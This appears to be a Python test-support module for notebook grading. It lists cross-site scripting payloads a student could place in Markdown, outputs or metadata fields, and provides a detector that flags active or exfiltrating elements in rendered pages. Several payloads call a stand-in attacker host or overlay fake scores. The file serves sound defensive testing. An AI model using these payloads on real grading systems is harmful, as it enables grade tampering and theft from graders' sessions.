"""What a student can write to act in a page: one cell each, and what a page does that obeys it."""

from __future__ import annotations

import re
from base64 import b64encode
from collections import Counter
from typing import Any
from xml.etree.ElementTree import Element

from bleach._vendor import html5lib
from nbformat import NotebookNode, from_dict
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_raw_cell

AWAY = "https://thief.example/x"
SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="steal()"><script>steal()</script></svg>'
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="  # one pixel

MARKUP = {
    "script": "<script>steal()</script>",
    "script in capitals": "<ScRiPt>steal()</sCrIpT>",
    "script from away": f"<script src='{AWAY}.js'></script>",
    "script in a comment's shadow": "<!--><script>steal()</script>-->",
    "broken script": "<script >steal()</script\t>",
    "module": "<script type=module>import 'https://thief.example/x.js'</script>",
    "configuration of MathJax": '<script type="text/x-mathjax-config">steal()</script>',
    "frame": f"<iframe src='{AWAY}'></iframe>",
    "frame with a document": "<iframe srcdoc='&lt;script&gt;steal()&lt;/script&gt;'></iframe>",
    "object": f"<object data='{AWAY}'></object>",
    "embedded": f"<embed src='{AWAY}'>",
    "style that hides the score": "<style>h4 {display: none}</style>",
    "style that sends": f"<style>@import url({AWAY}.css);</style>",
    "style sheet": f"<link rel=stylesheet href='{AWAY}.css'>",
    "fetched ahead": f"<link rel=prefetch href='{AWAY}'>",
    "element over the score": '<div style="position: fixed; top: 0; background: white">Score: 20 / 20</div>',
    "background from away": f'<div style="background: url({AWAY})">x</div>',
    "class of the page": '<div class="navbar-fixed-top panel-heading">Score: 20 / 20</div>',
    "picture that fails": "<img src=x onerror=steal()>",
    "picture without quotes": "<img/src='x'/onerror=steal()>",
    "element with a handler": "<b onmouseover=steal()>look</b>",
    "details with a handler": "<details open ontoggle=steal()>x</details>",
    "body with a handler": "<body onload=steal()>",
    "drawing with a handler": "<svg onload=steal()></svg>",
    "drawing with a script": SVG,
    "animated link in a drawing": "<svg><a><animate attributeName=href values=javascript:steal() /><text>x",
    "MathML link": '<math><mtext><a href="javascript:steal()">x</a></mtext></math>',
    "link to a script": '<a href="javascript:steal()">more</a>',
    "link with a tab in it": '<a href="java\tscript:steal()">more</a>',
    "link in entities": '<a href="&#106;avascript:steal()">more</a>',
    "link to data": '<a href="data:text/html,<script>steal()</script>">more</a>',
    "link to VBScript": '<a href="vbscript:steal()">more</a>',
    "link to a file beside": '<a href="nbgrader_config.py">more</a>',
    "link to the server's root": '<a href="/api/contents">more</a>',
    "link without a scheme": '<a href="//thief.example/x">more</a>',
    "link behind files/": '<a href="files/javascript:steal()">more</a>',
    "ping": f'<a href="#top" ping="{AWAY}">up</a>',
    "form": f"<form action='{AWAY}'><input name=a value=b></form>",
    "button": '<button onclick="steal()" formaction="javascript:steal()">x</button>',
    "refresh": f"<meta http-equiv=refresh content='0; url={AWAY}'>",
    "base": f"<base href='{AWAY}/'>",
    "picture from away": f"<img src='{AWAY}.png' alt='a'>",
    "picture in sets": f"<img srcset='{AWAY}.png 2x' alt='a'>",
    "picture beside": "<img src='../../other/small/plot.png' alt='a'>",
    "video": f"<video src='{AWAY}' poster='{AWAY}.png'></video>",
    "sound": "<audio src=x onerror=steal()></audio>",
    "table from away": f"<table background='{AWAY}'><tr><td>1</td></tr></table>",
    "id of a score": '<div id="double-small">x</div>',
    "unclosed comment": "<!-- ",
    "unclosed text area": "<textarea>",
    "misread by parsers": '<noscript><p title="</noscript><img src=x onerror=steal()>">',
    "misread in MathML": "<math><mtext><table><mglyph><style><img src=x onerror=steal()>",
}
"""HTML that acts, to be put into Markdown and into outputs."""

MARKDOWN = {
    "link to a script": "[more](javascript:steal())",
    "link in angle brackets": "<javascript:steal()>",
    "reference to a script": "[more][x]\n\n[x]: javascript:steal()",
    "picture from away": f"![a]({AWAY}.png)",
    "file beside": "![a](nbgrader_config.py)",
    "link behind files/": "[more](files/javascript:steal())",
    "title with quotes": '![a](x.png "t\\" onerror=\\"steal()")',
    "drawing": "```mermaid\ngraph; x[<img src=x onerror=steal()>]\n```",
    "language of code": "```<img/src=x/onerror=steal()>\nx\n```",
    "TeX link": r"$\href{javascript:steal()}{x}$",
    "TeX extension": r"$$\require{html}\class{x}{y}$$",
    "markup in TeX": r"$a <img src=x onerror=steal()> b$",
    "heading with a handler": "# <b onclick=steal()>x</b>",
}


def _output_cell(data: dict[str, Any], metadata: dict[str, Any] | None = None, **more: str) -> NotebookNode:
    """Return a code cell with an output of this data; nbformat's own makers would refuse some."""
    return _changed(
        new_code_cell("show()"),
        outputs=[from_dict(dict(output_type="display_data", data=data, metadata=metadata or {}, **more))],
    )


def _changed(cell: NotebookNode, **fields: Any) -> NotebookNode:
    cell.update(from_dict(fields))
    return cell


def _attached(kind: str, data: str) -> NotebookNode:
    return new_markdown_cell("![a](attachment:a.png)", attachments={"a.png": {kind: data}})


FIELDS = {
    "program": _output_cell({"application/javascript": "steal()"}),
    "widget": _output_cell(
        {"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>steal()</script>"}}
    ),
    "isolated frame": _output_cell({"text/html": "<b>x</b>"}, {"text/html": {"isolated": True}}),
    "width without quotes": _output_cell({"image/png": PNG}, {"image/png": {"width": "1 onerror=steal()"}}),
    "height without quotes": _output_cell({"image/jpeg": PNG}, {"image/jpeg": {"height": "1 onload=steal()"}}),
    "file name of a picture": _output_cell({"image/png": PNG}, {"filenames": {"image/png": f"{AWAY}.png"}}),
    "TeX output": _output_cell({"text/latex": r"$\href{javascript:steal()}{x}$"}),
    "TeX address": _output_cell({"text/latex": r"\(\url{javascript:steal()}\)"}),
    "Markdown output": _output_cell({"text/markdown": "[more](javascript:steal())"}),
    "name of the drawing's file": _output_cell({"image/svg+xml": SVG}, svg_filename=f"{AWAY}.svg"),
    "raw HTML": new_raw_cell("<img src=x onerror=steal()>", metadata={"raw_mimetype": "text/html"}),
    "tag as class": new_code_cell("x", metadata={"tags": ["x navbar-fixed-top"]}),
    "grade_id": new_markdown_cell(
        "x", metadata={"nbgrader": {"grade_id": "a'\"><img src=x onerror=steal()>", "grade": False, "solution": True}}
    ),
    "count of runs": _changed(new_code_cell("x"), execution_count="<img src=x onerror=steal()>"),
    "kind of an attachment": _attached('image/png" onerror="steal()', PNG),
    "attachment that is a page": _attached("text/html", b64encode(b"<script>steal()</script>").decode()),
    "comment": new_markdown_cell(
        "x",
        metadata={
            "nbgrader": {
                "grade_id": "why",
                "grade": True,
                "solution": True,
                "points": 3,
                "score": 0,
                "comment": "repaired: <img src=x onerror=steal()>",
            }
        },
    ),
}
"""Fields of a notebook that nbconvert's templates write as they are."""

VECTORS = {
    **{f"Markdown: {name}": new_markdown_cell(text) for name, text in (MARKUP | MARKDOWN).items()},
    **{f"output: {name}": _output_cell({"text/html": text}) for name, text in MARKUP.items()},
    **{f"field: {name}": cell for name, cell in FIELDS.items()},
}

QUIET_ALREADY = {
    "Markdown: picture without quotes",
    "Markdown: unclosed comment",
    "Markdown: misread by parsers",
    "Markdown: language of code",
    "Markdown: markup in TeX",
    "output: unclosed comment",
    "output: misread by parsers",
    "field: widget",
    "field: raw HTML",
}
"""What nbconvert makes harmless by itself, in this version."""

ELEMENTS = {"script", "iframe", "frame", "object", "embed", "base", "link", "form", "button", "textarea", "style"}
ELEMENTS |= {"audio", "video", "svg", "math"}
"""Elements that run, load, send or restyle something, or swallow what comes after them."""

PAGES_OWN = {"class": "navbar-fixed-top|jp-Mermaid", "id": "double-small"}
"""Classes and ids by which an element would pass for one of the page."""

ADDRESSES = {"href": r"(https?://|mailto:|#).*", "src": r"data:image/(png|jpeg|gif|svg\+xml);base64,[\w+/=\s]*"}
"""Where a link may lead, and what a picture may show."""

SENDING = ("srcset", "poster", "ping", "background", "action", "formaction", "data")
"""Attributes that ask another machine for something."""


def page_notebook(cell: NotebookNode) -> NotebookNode:
    """Return a notebook with `cell` before one that must still be read."""
    return _changed(new_notebook(), cells=[cell, new_markdown_cell("The cell after it.")])


def parsed(page: str) -> Element:
    """Return the tree that a browser makes of `page`, by the parser of the standard, which comes with bleach."""
    return html5lib.parse(page, namespaceHTMLElements=False)


def page_text(page: str) -> str:
    """Return the text of `page`."""
    return " ".join(" ".join(parsed(page).find("body").itertext()).split())


def dangers(page: str) -> Counter[str]:
    """Return what of `page` acts, asks for something, or lies over the rest."""
    found: Counter[str] = Counter()
    for element in parsed(page).iter():
        if not isinstance(element.tag, str):
            continue  # a comment
        tag = element.tag.rpartition("}")[2].lower()
        if tag in ELEMENTS or (tag == "meta" and "http-equiv" in element.attrib):
            found[f"{tag} {element.attrib} {''.join(element.itertext())}"[:200]] += 1
        found.update(f"{tag} {name}={value}"[:200] for name, value in element.attrib.items() if _acts(name, value))
    if re.search(r"\\(href|url|class|require)\{", page) and "MathJax.Hub.Config" in page:
        found["TeX that MathJax follows"] += 1
    if "The cell after it." not in page_text(page):
        found["the rest is swallowed"] += 1
    return found


def _acts(name: str, value: str) -> bool:
    if name in ADDRESSES:
        return re.fullmatch(ADDRESSES[name], value, re.IGNORECASE | re.DOTALL) is None
    if name == "style":
        return re.search(r"position|url\(|background|display: none", value) is not None
    return (
        name.startswith("on")
        or name in SENDING
        or (name in PAGES_OWN and re.search(PAGES_OWN[name], value) is not None)
    )
